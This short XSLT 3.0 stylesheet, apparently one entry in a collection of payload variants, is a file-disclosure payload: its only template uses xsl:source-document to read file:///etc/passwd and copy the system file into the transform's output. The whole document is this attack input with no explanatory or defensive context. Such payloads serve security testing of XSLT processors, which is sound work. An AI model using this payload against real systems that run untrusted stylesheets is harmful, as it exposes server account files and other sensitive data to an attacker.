<?xml version="1.0" encoding="UTF-8"?>
<!-- Reads a file of the system another way. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:xs="http://www.w3.org/2001/XMLSchema" exclude-result-prefixes="xs">
  <xsl:template match="/">
    <x><xsl:source-document href="file:///etc/passwd"><xsl:copy-of select="."/></xsl:source-document></x>
  </xsl:template>
</xsl:stylesheet>
